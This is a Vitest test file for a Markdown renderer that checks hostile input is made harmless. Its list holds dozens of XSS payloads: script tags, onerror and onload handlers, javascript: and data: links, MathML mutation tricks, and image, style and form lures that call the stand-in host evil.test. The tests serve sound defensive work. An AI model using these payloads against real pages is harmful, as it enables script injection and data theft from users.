import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../../demo/markdown';

let host: HTMLElement;
beforeEach(() => {
  host = document.body.appendChild(document.createElement('div'));
});
afterEach(() => {
  host.remove();
});

function render(markdown: string): string {
  host.replaceChildren(renderMarkdown(markdown));
  return host.innerHTML;
}

const hostile: ReadonlyArray<readonly [what: string, markdown: string]> = [
  ['a script', '<script>window.hacked = true</script>'],
  ['a script after text', 'hello <script src="https://evil.test/x.js"></script>'],
  ['an image with onerror', '<img src=x onerror="window.hacked = true">'],
  ['a Markdown image', '![cat](https://evil.test/pixel.png?secret=1)'],
  ['a Markdown image with a hostile description', '!["onerror="window.hacked=true](x)'],
  [
    'a Markdown image with HTML as its description',
    '![<img src=x onerror=window.hacked=true>](https://evil.test/a.png)',
  ],
  ['a data: SVG', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)'],
  ['an inline SVG', '<svg onload="window.hacked = true"><script>window.hacked = true</script></svg>'],
  ['MathML', '<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=true>'],
  ['a meta refresh', '<meta http-equiv="refresh" content="0; url=https://evil.test/">'],
  ['a base', '<base href="https://evil.test/">'],
  ['a style sheet', '<style>body { background: url(https://evil.test/pixel.png) }</style>'],
  ['a style attribute', '<p style="background: url(https://evil.test/pixel.png)">hi</p>'],
  ['a linked style sheet', '<link rel="stylesheet" href="https://evil.test/x.css">'],
  ['an iframe', '<iframe src="https://evil.test/"></iframe>'],
  ['an iframe with srcdoc', '<iframe srcdoc="<script>parent.hacked = true</script>"></iframe>'],
  ['an object', '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x.swf">'],
  ['a form', '<form action="https://evil.test/"><input name="password" autofocus onfocus="window.hacked=true"></form>'],
  ['media', '<video src="https://evil.test/v.mp4" autoplay></video><audio src="https://evil.test/a.mp3"></audio>'],
  ['a javascript: link', '[click](javascript:window.hacked=true)'],
  ['a javascript: link in disguise', '[click](  JaVaScRiPt&colon;window.hacked=true)'],
  ['a javascript: link with a tab', '[click](<java\tscript:window.hacked=true>)'],
  ['a data: link', '[click](data:text/html,<script>window.hacked=true</script>)'],
  ['a vbscript: link', '[click](vbscript:msgbox)'],
  ['a link with a handler', '<a href="https://ok.test" onclick="window.hacked = true">x</a>'],
  ['a link with a hostile title', '[x](https://ok.test "onmouseover=window.hacked=true")'],
  ['an autolink', '<javascript:window.hacked=true>'],
  ['a hostile language of a code block', '```"><img src=x onerror=window.hacked=true>\ncode\n```'],
  ['HTML in code', '`<img src=x onerror=window.hacked=true>`'],
  ['HTML in a table', '| a |\n|---|\n| <img src=x onerror=window.hacked=true> |'],
  ['a comment', '<!-- --><img src=x onerror=window.hacked=true><!-- -->'],
  ['a template', '<template><img src=x onerror=window.hacked=true></template>'],
  ['mutation by nesting', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=true>'],
  ['an id that hides a global', '<a id="app" name="app">x</a>'],
];

const allowed = new Set(
  'p br hr strong em del code pre blockquote ul ol li h1 h2 h3 h4 h5 h6 table thead tbody tr th td a'.split(' '),
);

describe('renderMarkdown', () => {
  it.each(hostile)('makes %s harmless', async (_what, markdown) => {
    const before = performance.getEntriesByType('resource').length;
    render(markdown);
    for (const element of host.querySelectorAll('*')) {
      expect(allowed).toContain(element.localName);
      for (const { name, value } of element.attributes) {
        expect(['href', 'start', 'align', 'rel', 'target']).toContain(name);
        if (name === 'href') expect(value).toMatch(/^(https?|mailto):/);
      }
    }
    await new Promise((resolve) => setTimeout(resolve, 10));
    expect(window).not.toHaveProperty('hacked');
    const requests = performance.getEntriesByType('resource').slice(before);
    expect(requests.filter(({ name }) => name.includes('evil.test'))).toEqual([]);
  });

  it.each(hostile)('makes %s harmless while it streams, cut at every character', (_what, markdown) => {
    for (let length = 1; length < markdown.length; length++) {
      render(markdown.slice(0, length));
      for (const element of host.querySelectorAll('*')) expect(allowed).toContain(element.localName);
    }
    expect(window).not.toHaveProperty('hacked');
  });

  it('shows HTML as the text it is', () => {
    render('Use <b>bold</b> & <script>alert(1)</script>');
    expect(host.textContent?.trim()).toBe('Use <b>bold</b> & <script>alert(1)</script>');
  });

  it('shows an image as its description and address', () => {
    render('![a cat](https://example.test/cat.png)');
    expect(host.textContent?.trim()).toBe('[image: a cat, https://example.test/cat.png]');
  });

  it('shows where a link leads, and opens it without a way back', () => {
    render('[your bank](https://evil.test/login)');
    const link = host.querySelector('a');
    expect(link?.textContent).toBe('your bank (https://evil.test/login)');
    expect(link?.rel).toBe('noopener noreferrer nofollow');
    expect(link?.target).toBe('_blank');
  });

  it('shows a bare address once', () => {
    render('<https://example.test/a>');
    expect(host.querySelector('a')?.textContent).toBe('https://example.test/a');
  });

  it('keeps the text of a link that leads nowhere', () => {
    expect(render('[click](javascript:alert(1)) [here](../admin) [top](#app)').trim()).toBe('<p>click here top</p>');
  });

  it('renders what models write', () => {
    render(
      '# Title\n\nSome **bold** and *soft* text\nin two lines.\n\n- one\n- [x] two\n\n```js\n1 < 2\n```\n\n| a |\n|--|\n| b |',
    );
    expect(host.querySelector('h1')?.textContent).toBe('Title');
    expect(host.querySelector('strong')?.textContent).toBe('bold');
    expect(host.querySelector('br')).not.toBeNull();
    expect(host.querySelectorAll('li').length).toBe(2);
    expect(host.querySelector('input')).toBeNull();
    expect(host.textContent).toContain('☑ two');
    expect(host.querySelector('pre code')?.textContent).toBe('1 < 2\n');
    expect(host.querySelector('td')?.textContent).toBe('b');
  });

  it('renders 20,000 characters in under 100 ms', () => {
    const text = 'Some **bold** words, `code` and [a link](https://example.test/).\n\n'.repeat(300);
    // The fastest of several: others use the processor too.
    const timesMs = Array.from({ length: 10 }, () => {
      const startMs = performance.now();
      renderMarkdown(text);
      return performance.now() - startMs;
    });
    expect(Math.min(...timesMs)).toBeLessThan(100);
  });
});
